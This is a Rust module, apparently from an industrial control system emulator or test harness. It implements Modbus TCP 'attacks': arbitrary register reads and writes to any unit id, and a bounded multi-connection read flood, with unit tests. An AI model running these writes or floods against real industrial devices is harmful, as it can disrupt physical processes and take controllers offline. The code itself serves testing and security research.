//! Modbus TCP attacks: single reads and writes to any unit id, and floods
//! of reads on many parallel connections. The client frames with the
//! project's own MBAP codec ([`crate::proto::modbus::mbap`]), so every
//! answer, exceptions included, is seen as the device sent it.
//!
//! Contract:
//! - Register numbers (`address`) are those of the vendor tables, 1-based
//!   (as `mbpoll -r`); the protocol address is one less.
//! - A flood runs for a bounded wall time ([`MAX_FLOOD_S`]) and counts
//!   answered requests, exceptions and lost requests (timeouts, dropped
//!   connections; a dropped connection is reopened).

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use bytes::BytesMut;
use fieldtwin_emulator::attack::{AttackResult, MAX_FLOOD_CONNECTIONS, MAX_FLOOD_S};
use fieldtwin_emulator::net::{BoxStream, Stack};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::{ANSWER_TIMEOUT, connect};
use crate::proto::modbus::mbap::{self, Adu};
use crate::proto::modbus::{MAX_READ, MAX_WRITE, Request, function};

/// Modbus TCP port.
pub const PORT: u16 = 502;
/// How long a flood request may wait for its answer before it counts as lost.
const FLOOD_TIMEOUT: Duration = Duration::from_secs(2);

/// Name of a Modbus exception code.
pub fn exception_name(code: u8) -> String {
    match code {
        0x01 => "illegal function",
        0x02 => "illegal data address",
        0x03 => "illegal data value",
        0x04 => "server device failure",
        0x05 => "acknowledge",
        0x06 => "server device busy",
        0x08 => "memory parity error",
        0x0A => "gateway path unavailable",
        0x0B => "gateway target device failed to respond",
        _ => "unknown exception",
    }
    .to_string()
}

/// A request for one unit.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UnitRequest {
    pub unit: u8,
    pub request: Request,
}

fn unit_id(unit: u32) -> Result<u8, String> {
    u8::try_from(unit).map_err(|_| {
        format!(
            "unit {unit} is out of range; a Modbus unit id is 0-255 (255 = the Panel Server itself)"
        )
    })
}

/// Protocol address of register `register` (1-based), for `count` registers.
fn protocol_address(register: u32, count: u32) -> Result<u16, String> {
    if register == 0 {
        return Err(
            "register numbers start at 1 (register 1 is protocol address 0, as mbpoll -r)".into(),
        );
    }
    if register - 1 + count > 0x1_0000 {
        return Err(format!(
            "registers {register}..{} go past the last register 65536",
            register + count - 1
        ));
    }
    Ok((register - 1) as u16)
}

/// Checks a read and builds its request.
pub fn read_request(
    unit: u32,
    function: u8,
    address: u32,
    count: u32,
) -> Result<UnitRequest, String> {
    let unit = unit_id(unit)?;
    if count == 0 || count > u32::from(MAX_READ) {
        return Err(format!(
            "count {count} is out of range; one read takes 1-{MAX_READ} registers"
        ));
    }
    let addr = protocol_address(address, count)?;
    let count = count as u16;
    let request = match function {
        function::READ_HOLDING_REGISTERS => Request::ReadHolding { addr, count },
        function::READ_INPUT_REGISTERS => Request::ReadInput { addr, count },
        f => {
            return Err(format!(
                "function {f} is not a register read; use 3 (holding) or 4 (input)"
            ));
        }
    };
    Ok(UnitRequest { unit, request })
}

/// Checks a write and builds its request (function 16, or 6 for one value).
pub fn write_request(
    unit: u32,
    function: u8,
    address: u32,
    values: &[u16],
) -> Result<UnitRequest, String> {
    let unit = unit_id(unit)?;
    match (function, values.len()) {
        (function::WRITE_MULTIPLE_REGISTERS, _) | (function::WRITE_SINGLE_REGISTER, 1) => {}
        (function::WRITE_SINGLE_REGISTER, n) => {
            return Err(format!(
                "function 6 writes one register, not {n}; use function 16 for several"
            ));
        }
        (f, _) => {
            return Err(format!(
                "function {f} is not a register write; use 16 (write multiple) or 6 (write single)"
            ));
        }
    }
    if values.is_empty() || values.len() > usize::from(MAX_WRITE) {
        return Err(format!(
            "{} values: one write takes 1-{MAX_WRITE} registers",
            values.len()
        ));
    }
    let addr = protocol_address(address, values.len() as u32)?;
    let request = if function == function::WRITE_SINGLE_REGISTER {
        Request::WriteSingle {
            addr,
            value: values[0],
        }
    } else {
        Request::WriteMultiple {
            addr,
            values: values.to_vec(),
        }
    };
    Ok(UnitRequest { unit, request })
}

/// An answer PDU, decoded for the report.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Answer {
    Registers(Vec<u16>),
    Written,
    Exception(u8),
    /// A PDU that does not fit the request.
    Malformed(Vec<u8>),
}

/// Decodes the answer PDU to `req`.
pub fn decode_answer(req: &Request, pdu: &[u8]) -> Answer {
    let fc = req.function();
    match pdu {
        [f, code, ..] if *f == fc | 0x80 => Answer::Exception(*code),
        [f, n, data @ ..]
            if *f == fc
                && matches!(req, Request::ReadHolding { .. } | Request::ReadInput { .. })
                && usize::from(*n) == data.len()
                && data.len().is_multiple_of(2) =>
        {
            Answer::Registers(
                data.chunks_exact(2)
                    .map(|c| u16::from_be_bytes([c[0], c[1]]))
                    .collect(),
            )
        }
        [f, _, _, _, _]
            if *f == fc
                && matches!(
                    req,
                    Request::WriteSingle { .. } | Request::WriteMultiple { .. }
                ) =>
        {
            Answer::Written
        }
        other => Answer::Malformed(other.to_vec()),
    }
}

/// A Modbus TCP client on one stream.
pub struct Client {
    stream: BoxStream,
    buf: BytesMut,
    transaction: u16,
}

impl Client {
    pub fn new(stream: BoxStream) -> Self {
        Self {
            stream,
            buf: BytesMut::with_capacity(512),
            transaction: 0,
        }
    }

    /// Sends `req` and returns the answer PDU.
    pub async fn call(&mut self, req: &UnitRequest) -> std::io::Result<Vec<u8>> {
        self.transaction = self.transaction.wrapping_add(1);
        let mut out = Vec::with_capacity(16);
        mbap::encode(
            &Adu {
                transaction: self.transaction,
                unit: req.unit,
                pdu: req.request.encode(),
            },
            &mut out,
        );
        self.stream.write_all(&out).await?;
        loop {
            match mbap::decode(&mut self.buf) {
                Ok(Some(adu)) if adu.transaction == self.transaction => return Ok(adu.pdu),
                Ok(Some(_)) => continue,
                Ok(None) => {}
                Err(e) => return Err(std::io::Error::new(std::io::ErrorKind::InvalidData, e)),
            }
            if self.stream.read_buf(&mut self.buf).await? == 0 {
                return Err(std::io::Error::new(
                    std::io::ErrorKind::UnexpectedEof,
                    "the device closed the connection",
                ));
            }
        }
    }
}

async fn one_call(
    stack: &dyn Stack,
    to: SocketAddr,
    req: &UnitRequest,
) -> Result<(u8, Answer), String> {
    let mut c = Client::new(connect(stack, to).await?);
    let pdu = tokio::time::timeout(ANSWER_TIMEOUT, c.call(req))
        .await
        .map_err(|_| format!("{to} did not answer within {} s", ANSWER_TIMEOUT.as_secs()))?
        .map_err(|e| format!("{to}: {e}"))?;
    Ok((req.request.function(), decode_answer(&req.request, &pdu)))
}

/// One read; the report holds the values or the exception.
pub async fn read(
    stack: &dyn Stack,
    to: SocketAddr,
    req: UnitRequest,
) -> Result<AttackResult, String> {
    let (function, answer) = one_call(stack, to, &req).await?;
    let (values, exception) = match answer {
        Answer::Registers(v) => (Some(v), None),
        Answer::Exception(e) => (None, Some(e)),
        Answer::Written | Answer::Malformed(_) => {
            return Err(format!(
                "{to} sent an answer that does not fit the read: {answer:?}"
            ));
        }
    };
    Ok(AttackResult::ModbusRead {
        function,
        values,
        exception,
        exception_name: exception.map(exception_name),
    })
}

/// One write; the report says ok or the exception.
pub async fn write(
    stack: &dyn Stack,
    to: SocketAddr,
    req: UnitRequest,
) -> Result<AttackResult, String> {
    let (function, answer) = one_call(stack, to, &req).await?;
    let exception = match answer {
        Answer::Written => None,
        Answer::Exception(e) => Some(e),
        other => {
            return Err(format!(
                "{to} sent an answer that does not fit the write: {other:?}"
            ));
        }
    };
    Ok(AttackResult::ModbusWrite {
        function,
        ok: exception.is_none(),
        exception,
        exception_name: exception.map(exception_name),
    })
}

/// A checked flood.
#[derive(Debug, Clone)]
pub struct FloodPlan {
    pub request: UnitRequest,
    pub connections: u32,
    pub duration: Duration,
}

/// Checks the parameters of a flood.
pub fn flood_plan(
    unit: u32,
    connections: u32,
    duration_s: f64,
    address: u32,
    count: u32,
) -> Result<FloodPlan, String> {
    if !(1..=MAX_FLOOD_CONNECTIONS).contains(&connections) {
        return Err(format!(
            "connections {connections} is out of range; use 1-{MAX_FLOOD_CONNECTIONS}"
        ));
    }
    if !(duration_s.is_finite() && duration_s > 0.0 && duration_s <= MAX_FLOOD_S) {
        return Err(format!(
            "duration_s {duration_s} is out of range; a flood lasts more than 0 and at most {MAX_FLOOD_S} wall-clock seconds"
        ));
    }
    Ok(FloodPlan {
        request: read_request(unit, function::READ_HOLDING_REGISTERS, address, count)?,
        connections,
        duration: Duration::from_secs_f64(duration_s),
    })
}

#[derive(Default)]
struct Counters {
    requests: AtomicU64,
    exceptions: AtomicU64,
    errors: AtomicU64,
    connect_failures: AtomicU64,
}

/// Floods `to` with reads for the plan's duration.
pub async fn flood(stack: Arc<dyn Stack>, to: SocketAddr, plan: FloodPlan) -> AttackResult {
    let counters = Arc::new(Counters::default());
    let start = Instant::now();
    let deadline = start + plan.duration;
    let workers: Vec<_> = (0..plan.connections)
        .map(|_| {
            let (stack, counters, req) = (stack.clone(), counters.clone(), plan.request.clone());
            tokio::spawn(async move {
                let mut client: Option<Client> = None;
                while Instant::now() < deadline {
                    let left = deadline.saturating_duration_since(Instant::now());
                    let c = match client.as_mut() {
                        Some(c) => c,
                        None => {
                            match tokio::time::timeout(left, connect(stack.as_ref(), to)).await {
                                Ok(Ok(s)) => client.insert(Client::new(s)),
                                Ok(Err(_)) => {
                                    counters.connect_failures.fetch_add(1, Ordering::Relaxed);
                                    // Refused: try again a little later.
                                    tokio::time::sleep(Duration::from_millis(20).min(left)).await;
                                    continue;
                                }
                                Err(_) => break,
                            }
                        }
                    };
                    let wait = FLOOD_TIMEOUT.min(left.max(Duration::from_millis(1)));
                    match tokio::time::timeout(wait, c.call(&req)).await {
                        Ok(Ok(pdu)) => {
                            counters.requests.fetch_add(1, Ordering::Relaxed);
                            if matches!(decode_answer(&req.request, &pdu), Answer::Exception(_)) {
                                counters.exceptions.fetch_add(1, Ordering::Relaxed);
                            }
                        }
                        Ok(Err(_)) => {
                            counters.errors.fetch_add(1, Ordering::Relaxed);
                            client = None;
                        }
                        Err(_) => {
                            // Only a request cut by the end of the flood is not lost.
                            if Instant::now() < deadline {
                                counters.errors.fetch_add(1, Ordering::Relaxed);
                            }
                            client = None;
                        }
                    }
                }
            })
        })
        .collect();
    for w in workers {
        let _ = w.await;
    }
    let elapsed = start.elapsed().as_secs_f64().max(1e-9);
    let requests = counters.requests.load(Ordering::Relaxed);
    AttackResult::ModbusFlood {
        connections: plan.connections,
        connect_failures: counters.connect_failures.load(Ordering::Relaxed) as u32,
        requests,
        exceptions: counters.exceptions.load(Ordering::Relaxed),
        errors: counters.errors.load(Ordering::Relaxed),
        duration_s: (elapsed * 1000.0).round() / 1000.0,
        req_per_s: (requests as f64 / elapsed * 10.0).round() / 10.0,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn requests_are_checked_with_clear_messages() {
        let r = read_request(255, 3, 61, 8).unwrap();
        assert_eq!(r.unit, 255);
        assert_eq!(r.request, Request::ReadHolding { addr: 60, count: 8 });
        assert_eq!(
            read_request(1, 4, 3000, 2).unwrap().request,
            Request::ReadInput {
                addr: 2999,
                count: 2
            }
        );
        let e = read_request(300, 3, 1, 1).unwrap_err();
        assert!(e.contains("unit 300") && e.contains("0-255"), "{e}");
        let e = read_request(1, 5, 1, 1).unwrap_err();
        assert!(e.contains("function 5") && e.contains("3"), "{e}");
        assert!(read_request(1, 3, 0, 1).unwrap_err().contains("start at 1"));
        assert!(read_request(1, 3, 1, 126).unwrap_err().contains("1-125"));
        assert!(read_request(1, 3, 65_536, 2).unwrap_err().contains("65536"));
        assert!(read_request(1, 3, 65_536, 1).is_ok());
        assert_eq!(
            write_request(1, 6, 10, &[7]).unwrap().request,
            Request::WriteSingle { addr: 9, value: 7 }
        );
        assert_eq!(
            write_request(1, 16, 10, &[7]).unwrap().request,
            Request::WriteMultiple {
                addr: 9,
                values: vec![7]
            }
        );
        assert!(
            write_request(1, 6, 10, &[7, 8])
                .unwrap_err()
                .contains("function 16")
        );
        assert!(
            write_request(1, 5, 10, &[7])
                .unwrap_err()
                .contains("function 5")
        );
        assert!(write_request(1, 16, 10, &[]).unwrap_err().contains("1-123"));
        assert!(flood_plan(1, 0, 1.0, 1, 1).unwrap_err().contains("1-256"));
        assert!(flood_plan(1, 4, 31.0, 1, 1).unwrap_err().contains("30"));
        assert!(flood_plan(1, 4, f64::NAN, 1, 1).is_err());
        assert!(flood_plan(1, 4, 2.0, 1, 1).is_ok());
    }

    #[test]
    fn answers_decode() {
        let rd = Request::ReadHolding { addr: 0, count: 2 };
        assert_eq!(
            decode_answer(&rd, &[3, 4, 0, 1, 0, 2]),
            Answer::Registers(vec![1, 2])
        );
        assert_eq!(decode_answer(&rd, &[0x83, 2]), Answer::Exception(2));
        assert!(matches!(
            decode_answer(&rd, &[3, 5, 0]),
            Answer::Malformed(_)
        ));
        let wr = Request::WriteMultiple {
            addr: 0,
            values: vec![1, 2],
        };
        assert_eq!(decode_answer(&wr, &[0x10, 0, 0, 0, 2]), Answer::Written);
        assert_eq!(decode_answer(&wr, &[0x90, 0x0B]), Answer::Exception(0x0B));
        assert!(matches!(decode_answer(&wr, &[]), Answer::Malformed(_)));
        assert_eq!(
            exception_name(0x0B),
            "gateway target device failed to respond"
        );
    }
}
